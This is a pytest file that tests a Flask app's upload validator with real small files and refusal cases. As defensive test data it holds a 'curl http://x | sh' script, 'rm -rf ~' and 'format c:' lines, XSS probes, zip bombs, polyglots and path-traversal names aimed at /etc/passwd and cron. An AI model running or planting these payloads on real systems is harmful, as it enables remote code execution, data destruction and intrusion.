"""Upload validation: every accepted type built for real, every refusal, and file names."""

import hashlib
import io
import os
import struct
import zipfile

import pytest
from flask import jsonify, request
from werkzeug.datastructures import FileStorage

from taskflow.core.uploads import (
    MAX_NAME_LENGTH,
    UploadRejected,
    safe_display_name,
    validate_upload,
    validate_uploads,
)
from tests.helpers import docx_bytes, jpeg_bytes, page_objects, pdf_document, png_bytes

MB = 1024 * 1024


# ---------------------------------------------------------------- real small files


def pdf_bytes(body: bytes = b"") -> bytes:
    """A minimal but well-formed PDF: header, objects, xref table, trailer, %%EOF."""
    return pdf_document(page_objects(b"BT /F1 12 Tf 20 100 Td (evidence) Tj ET" + body),
                        header=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")





def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["单位", "科技型企业"])
    workbook.active.append(["古南街道", 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def ole2_bytes(stream_name: str = "WordDocument") -> bytes:
    """A compound-file (OLE2) container: header, one FAT sector, one directory sector holding the
    root entry and one stream named like Word's (WordDocument) or Excel's (Workbook)."""
    endofchain, fatsect, free = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 44, 1)  # number of FAT sectors
    struct.pack_into("<I", header, 48, 1)  # first directory sector
    struct.pack_into("<I", header, 56, 4096)  # mini stream cutoff
    struct.pack_into("<IIII", header, 60, endofchain, 0, endofchain, 0)
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: the FAT is sector 0
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, free)
    fat = bytearray(struct.pack("<II", fatsect, endofchain) + struct.pack("<I", free) * 126)

    def entry(name: str, kind: int, child: int = free) -> bytes:
        raw = bytearray(128)
        encoded = (name + "\x00").encode("utf-16-le")
        raw[0:len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 68, free, free, child)
        struct.pack_into("<II", raw, 116, endofchain, 0)
        return bytes(raw)

    directory = entry("Root Entry", 5, child=1) + entry(stream_name, 2) + bytes(256)
    return bytes(header) + bytes(fat) + directory


def ofd_bytes() -> bytes:
    return zip_bytes({
        "OFD.xml": '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec'
                   '.org/2016" Version="1.0"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml'
                   '</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
        "Doc_0/Document.xml": "<ofd:Document xmlns:ofd=\"http://www.ofdspec.org/2016\"/>",
    })


def zip_bytes(entries: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def exe_bytes() -> bytes:
    """The start of a Windows PE program (DOS stub and its message)."""
    return (b"MZ\x90\x00\x03" + bytes(55) + struct.pack("<I", 0x80)
            + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(64) + b"PE\x00\x00")


def upload(data: bytes, filename: str, **kwargs) -> FileStorage:
    return FileStorage(stream=io.BytesIO(data), filename=filename, **kwargs)


def rejected(data: bytes, filename: str, **limits) -> UploadRejected:
    with pytest.raises(UploadRejected) as info:
        validate_upload(upload(data, filename), **limits)
    return info.value


# ---------------------------------------------------------------- accepted


@pytest.mark.parametrize(
    ("filename", "builder", "detected", "content_type"),
    [
        ("进展报告.pdf", pdf_bytes, "pdf", "application/pdf"),
        ("现场照片.JPG", jpeg_bytes, "jpeg", "image/jpeg"),
        ("现场照片.jpeg", jpeg_bytes, "jpeg", "image/jpeg"),
        ("截图.png", png_bytes, "png", "image/png"),
        ("旧版说明.doc", lambda: ole2_bytes("WordDocument"), "doc", "application/msword"),
        ("旧版台账.xls", lambda: ole2_bytes("Workbook"), "xls", "application/vnd.ms-excel"),
        ("工作总结.docx", docx_bytes, "docx",
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("企业名单.xlsx", xlsx_bytes, "xlsx",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("电子公文.ofd", ofd_bytes, "ofd", "application/ofd"),
        ("材料汇总.zip", lambda: zip_bytes({"说明.txt": "进展", "附件/表格.xlsx": xlsx_bytes(),
                                             "附件/报告.pdf": pdf_bytes()}), "zip", "application/zip"),
    ],
)
def test_every_accepted_type_passes_with_its_chinese_name(shared_app, filename, builder, detected,
                                                          content_type):
    data = builder()
    result = validate_upload(upload(data, filename))
    assert result.safe_display_name == filename
    assert result.original_name == filename
    assert result.extension == filename.rsplit(".", 1)[1].lower()
    assert result.detected_type == detected
    assert result.content_type == content_type
    assert result.size == len(data)
    assert result.read_bytes() == data
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    result.close()


def test_a_large_upload_spills_to_disk_and_keeps_every_byte(shared_app):
    data = pdf_bytes(body=bytes(range(256)) * 12_000)  # ~3 MB of incompressible-ish stream
    with validate_upload(upload(data, "大文件.pdf")) as result:
        assert result.size == len(data)
        assert result.read_bytes() == data


def test_a_word_document_uploaded_as_zip_is_accepted_as_a_zip(shared_app):
    result = validate_upload(upload(docx_bytes(), "打包.zip"))
    assert result.detected_type == "zip"


# ---------------------------------------------------------------- refused: type and content


@pytest.mark.parametrize(
    ("data", "filename", "code"),
    [
        (exe_bytes(), "证明材料.pdf", "dangerous"),
        (exe_bytes(), "照片.jpg", "dangerous"),
        (exe_bytes(), "说明.doc", "dangerous"),
        (b"\x7fELF\x02\x01\x01" + bytes(57), "截图.png", "dangerous"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "报告.pdf", "dangerous"),
        (b"\xef\xbb\xbf<!DOCTYPE html><html><script>alert(1)</script></html>", "截图.png",
         "dangerous"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "图片.jpg", "dangerous"),
        (b"just some text, not a picture", "图片.png", "mismatch"),
        (png_bytes(), "报告.pdf", "mismatch"),
        (pdf_bytes(), "照片.jpg", "mismatch"),
        (docx_bytes(), "台账.xlsx", "mismatch"),
        (xlsx_bytes(), "报告.docx", "mismatch"),
        (zip_bytes({"a.txt": "x"}), "报告.docx", "mismatch"),
        (zip_bytes({"a.txt": "x"}), "公文.ofd", "mismatch"),
        (ole2_bytes("Workbook"), "说明.doc", "mismatch"),
        (ole2_bytes("WordDocument"), "台账.xls", "mismatch"),
        (ole2_bytes("MsiDigitalSignatureEx"), "安装包.doc", "mismatch"),
        (b"Rar!\x1a\x07\x00" + bytes(50), "材料.zip", "mismatch"),
    ],
)
def test_content_that_does_not_match_the_extension_is_refused(shared_app, data, filename, code):
    error = rejected(data, filename)
    assert error.code == code
    assert "." + filename.rsplit(".", 1)[1] in str(error)


def test_renamed_exe_gets_a_reason_in_chinese(shared_app):
    with shared_app.app_context(), shared_app.test_request_context("/"):
        error = rejected(exe_bytes(), "证明材料.pdf")
        assert str(error) == "“.pdf”文件被拒绝：其内容是Windows 可执行程序，而不是PDF 文档。"


def test_reasons_are_english_when_the_user_chose_english(shared_app):
    from flask import session

    with shared_app.app_context(), shared_app.test_request_context("/"):
        session["locale"] = "en"
        error = rejected(exe_bytes(), "证明材料.pdf")
        assert str(error) == ("“.pdf” file refused: its content is a Windows program, "
                              "not a PDF document.")


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (pdf_bytes() + zip_bytes({"payload.txt": "x" * 100}), "报告.pdf"),
        (jpeg_bytes() + zip_bytes({"payload.txt": "x" * 100}), "照片.jpg"),
        (png_bytes() + zip_bytes({"run.bat": "format c:"}), "截图.png"),
        (pdf_bytes(body=exe_bytes()), "报告.pdf"),
        (ole2_bytes("WordDocument") + exe_bytes(), "说明.doc"),
    ],
)
def test_polyglots_are_refused(shared_app, data, filename):
    assert rejected(data, filename).code == "polyglot"


def test_pdf_with_a_program_appended_after_its_end_is_refused(shared_app):
    error = rejected(pdf_bytes() + exe_bytes() * 30, "报告.pdf")
    assert error.code in {"corrupt", "polyglot"}


def test_truncated_pdf_is_refused(shared_app):
    assert rejected(pdf_bytes()[:-40], "报告.pdf").code == "corrupt"


@pytest.mark.parametrize("filename", ["病毒.exe", "脚本.bat", "说明.txt", "网页.html", "图.gif",
                                      "a.pdf.exe", "演示.pptx"])
def test_unknown_extensions_are_refused(shared_app, filename):
    error = rejected(pdf_bytes(), filename)
    assert error.code == "extension"
    assert "pdf" in str(error) and "zip" in str(error)  # the message lists what is accepted


def test_allowed_types_can_be_narrowed(shared_app):
    assert rejected(zip_bytes({"a.txt": "x"}), "a.zip", allowed={"pdf"}).code == "extension"
    assert validate_upload(upload(pdf_bytes(), "a.pdf"), allowed={"pdf"}).detected_type == "pdf"


@pytest.mark.parametrize("filename", ["证明材料", "..", "", ".pdf"])
def test_names_without_an_extension_are_refused(shared_app, filename):
    error = rejected(pdf_bytes(), filename)
    assert error.code in {"name", "missing"}


def test_no_file_at_all_is_refused(shared_app):
    with pytest.raises(UploadRejected) as info:
        validate_upload(None)
    assert info.value.code == "missing"
    assert rejected(b"", "").code == "missing"  # a form submitted with no file chosen


# ---------------------------------------------------------------- refused: size


def test_empty_file_is_refused(shared_app):
    assert rejected(b"", "空文件.pdf").code == "empty"


def test_oversized_file_is_refused_while_streaming(shared_app):
    data = pdf_bytes(body=b"0" * 5000)
    assert validate_upload(upload(data, "a.pdf"), max_bytes=len(data)).size == len(data)
    error = rejected(data, "a.pdf", max_bytes=len(data) - 1)
    assert error.code == "too_large"


def test_declared_length_is_not_trusted(shared_app):
    data = pdf_bytes(body=b"0" * 200_000)
    liar = FileStorage(stream=io.BytesIO(data), filename="a.pdf", content_length=10)
    with pytest.raises(UploadRejected) as info:
        validate_upload(liar, max_bytes=100_000)
    assert info.value.code == "too_large"


def test_default_size_cap_comes_from_the_configuration(shared_app, monkeypatch):
    monkeypatch.setitem(shared_app.config, "MAX_UPLOAD_MB", 1)
    data = pdf_bytes(body=b"0" * (MB + 10))
    error = rejected(data, "大.pdf")
    assert error.code == "too_large"
    with shared_app.app_context(), shared_app.test_request_context("/"):
        assert "1 MB" in str(error)


# ---------------------------------------------------------------- refused: archives


def test_zip_bomb_by_ratio_is_refused(shared_app):
    bomb = zip_bytes({"zeros.txt": bytes(20 * MB)})
    assert len(bomb) < 100_000
    assert rejected(bomb, "材料.zip").code == "zip_bomb"


def test_zip_over_the_uncompressed_total_is_refused(shared_app):
    data = zip_bytes({"a.bin": os.urandom(600_000), "b.bin": os.urandom(600_000)})
    error = rejected(data, "材料.zip", zip_max_uncompressed=MB)
    assert error.code == "zip_size"
    assert validate_upload(upload(data, "材料.zip"), zip_max_uncompressed=2 * MB).size == len(data)


def test_zip_total_counts_nested_archives(shared_app):
    inner = zip_bytes({"a.bin": os.urandom(700_000)}, compression=zipfile.ZIP_STORED)
    outer = zip_bytes({"inner.zip": inner, "b.bin": os.urandom(400_000)})
    assert rejected(outer, "材料.zip", zip_max_uncompressed=MB + 500_000).code == "zip_size"


def test_zip_entries_sharing_their_data_are_refused(shared_app):
    data = bytearray(zip_bytes({"a.txt": "同一内容" * 100, "b.txt": "同一内容" * 100}))
    second = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 1)
    struct.pack_into("<I", data, second + 42, 0)  # both central entries -> first local header
    assert rejected(bytes(data), "材料.zip").code == "zip_bomb"


def test_too_many_entries_are_refused(shared_app):
    data = zip_bytes({f"{i}.txt": "x" for i in range(6)})
    assert rejected(data, "材料.zip", zip_max_entries=5).code == "zip_entries"
    assert validate_upload(upload(data, "材料.zip"), zip_max_entries=6).detected_type == "zip"


@pytest.mark.parametrize("name", ["../../etc/cron.d/job", "/etc/passwd", "..\\..\\windows\\x.txt",
                                  "C:/Windows/evil.txt", "ok/../../up.txt"])
def test_path_traversal_inside_a_zip_is_refused(shared_app, name):
    assert rejected(zip_bytes({"fine.txt": "x", name: "x"}), "材料.zip").code == "zip_path"


def test_path_traversal_inside_a_nested_zip_is_refused(shared_app):
    inner = zip_bytes({"../../escape.txt": "x"})
    assert rejected(zip_bytes({"inner.zip": inner}), "材料.zip").code == "zip_path"


def test_symbolic_links_inside_a_zip_are_refused(shared_app):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = (0o120777 << 16)
        archive.writestr(link, "/etc/passwd")
    assert rejected(buffer.getvalue(), "材料.zip").code == "zip_path"


def test_encrypted_entries_are_refused(shared_app):
    data = bytearray(zip_bytes({"secret.txt": "x" * 50}))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 6] |= 0x01  # general-purpose flag: encrypted
    data[central + 8] |= 0x01
    assert rejected(bytes(data), "材料.zip").code == "zip_encrypted"


@pytest.mark.parametrize(
    "entries",
    [
        {"setup.exe": b"anything"},
        {"说明.txt": "x", "工具/run.BAT": "format c:"},
        {"readme.txt": exe_bytes()},  # a program whatever its name
        {"notes.txt": b"#!/bin/bash\nrm -rf ~\n"},
        {"inner.zip": zip_bytes({"payload.js": "WScript.Shell"})},
        {"macro.docm": b"x"},
    ],
)
def test_executables_inside_a_zip_are_refused(shared_app, entries):
    assert rejected(zip_bytes(entries), "材料.zip").code == "zip_executable"


def test_office_files_with_macros_are_refused(shared_app):
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    data = buffer.getvalue()
    assert rejected(data, "报告.docx").code == "zip_executable"


def test_other_archive_formats_inside_a_zip_are_refused(shared_app):
    data = zip_bytes({"more.rar": b"Rar!\x1a\x07\x00" + bytes(40)})
    assert rejected(data, "材料.zip").code == "zip_nested"


def test_archives_nested_too_deeply_are_refused(shared_app):
    data = zip_bytes({"a.txt": "x"})
    for level in range(3):
        data = zip_bytes({f"level{level}.zip": data})
    assert rejected(data, "材料.zip").code == "zip_nested"
    shallow = zip_bytes({"l1.zip": zip_bytes({"l2.zip": zip_bytes({"a.txt": "x"})})})
    assert validate_upload(upload(shallow, "材料.zip")).detected_type == "zip"


def test_damaged_and_empty_archives_are_refused(shared_app):
    whole = zip_bytes({"a.txt": "内容" * 500})
    assert rejected(whole[: len(whole) // 2], "材料.zip").code == "corrupt"
    data = bytearray(whole)
    data[data.find(b"PK\x03\x04") + 30 + len("a.txt") + 5] ^= 0xFF  # flip a compressed byte
    assert rejected(bytes(data), "材料.zip").code == "corrupt"
    assert rejected(zip_bytes({}), "材料.zip").code == "empty"


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("..\\..\\a.pdf", "a.pdf"),
        ("/etc/passwd", "passwd"),
        ("C:\\x\\证明材料.pdf", "证明材料.pdf"),
        ("../../../证明材料.pdf", "证明材料.pdf"),
        ("证明\x00材料\r\n.pdf", "证明材料.pdf"),
        ("报告\u202egnp.pdf", "报告gnp.pdf"),  # a right-to-left override that would disguise it
        ("  綦江区 2024年第一季度 进展.pdf  ", "綦江区 2024年第一季度 进展.pdf"),
        ('a<b>:"c|?*.pdf', "a_b___c___.pdf"),
        ("ＡＢＣ（全角）.pdf", "ＡＢＣ（全角）.pdf"),
    ],
)
def test_display_names_lose_paths_and_control_characters(raw, expected):
    assert safe_display_name(raw) == expected


def test_long_names_are_capped_keeping_the_extension():
    name = safe_display_name("很长的文件名" * 100 + ".pdf")
    assert len(name) == MAX_NAME_LENGTH
    assert name.endswith(".pdf") and name.startswith("很长的文件名")


def test_a_path_in_the_file_name_is_stripped_on_upload(shared_app):
    result = validate_upload(upload(pdf_bytes(), "C:\\Users\\张三\\桌面\\证明材料.pdf"))
    assert result.safe_display_name == "证明材料.pdf"
    assert result.original_name == "C:\\Users\\张三\\桌面\\证明材料.pdf"


# ---------------------------------------------------------------- through a real request


@pytest.mark.fresh_app
def test_a_multipart_request_is_validated_end_to_end(app, client):
    @app.post("/_test/upload")
    def _upload():
        try:
            result = validate_upload(request.files.get("file"), max_bytes=20_000)
        except UploadRejected as error:
            return jsonify(code=error.code, message=str(error)), 400
        return jsonify(name=result.safe_display_name, type=result.detected_type,
                       size=result.size)

    data = pdf_bytes()
    response = client.post("/_test/upload", data={"file": (io.BytesIO(data), "证明材料.pdf")},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert response.get_json() == {"name": "证明材料.pdf", "type": "pdf", "size": len(data)}

    response = client.post("/_test/upload", data={"file": (io.BytesIO(exe_bytes()), "证明.pdf")},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    assert response.get_json()["code"] == "dangerous"
    assert "Windows" in response.get_json()["message"]

    big = pdf_bytes(body=b"1" * 30_000)
    response = client.post("/_test/upload", data={"file": (io.BytesIO(big), "大.pdf")},
                           content_type="multipart/form-data")
    assert response.get_json()["code"] == "too_large"


# ---------------------------------------------------------------- several files at once


def test_several_files_are_validated_and_empty_inputs_skipped(shared_app):
    files = [upload(pdf_bytes(), "报告.pdf"), FileStorage(io.BytesIO(b""), filename=""),
             upload(png_bytes(), "照片.png")]
    results = validate_uploads(files)
    assert [r.safe_display_name for r in results] == ["报告.pdf", "照片.png"]
    assert validate_uploads([FileStorage(io.BytesIO(b""), filename="")]) == []


def test_one_bad_file_refuses_the_whole_set_and_names_it(shared_app):
    good = upload(pdf_bytes(), "报告.pdf")
    with pytest.raises(UploadRejected) as info:
        validate_uploads([good, upload(exe_bytes(), "C:\\temp\\证明.pdf")])
    assert info.value.code == "dangerous"
    assert info.value.filename == "证明.pdf"


def test_a_required_file_and_the_file_count_are_enforced(shared_app):
    with pytest.raises(UploadRejected) as info:
        validate_uploads([FileStorage(io.BytesIO(b""), filename="")], required=True)
    assert info.value.code == "missing"
    with pytest.raises(UploadRejected) as info:
        validate_uploads([upload(pdf_bytes(), f"{i}.pdf") for i in range(3)], max_files=2)
    assert info.value.code == "too_many_files"
